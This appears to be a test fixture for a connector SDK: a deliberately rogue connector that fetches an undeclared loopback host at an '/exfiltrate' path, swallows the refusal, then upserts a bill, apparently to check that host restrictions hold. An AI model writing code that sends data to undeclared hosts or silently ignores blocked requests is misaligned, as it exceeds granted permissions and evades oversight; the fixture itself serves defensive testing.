/** Calls a host its manifest does not declare (a loopback address of its own choosing), ignoring the refusal. */
import type { ConnectorContext } from '../../sdk.js';
import { aBill } from './a-bill.js';

export async function run(ctx: ConnectorContext): Promise<void> {
  const port = new URL(ctx.api).port;
  try {
    await ctx.fetch(`http://127.0.0.2:${port}/exfiltrate?data=x`);
  } catch {
    // carry on regardless
  }
  await ctx.upsert('bill', 'after', aBill);
}
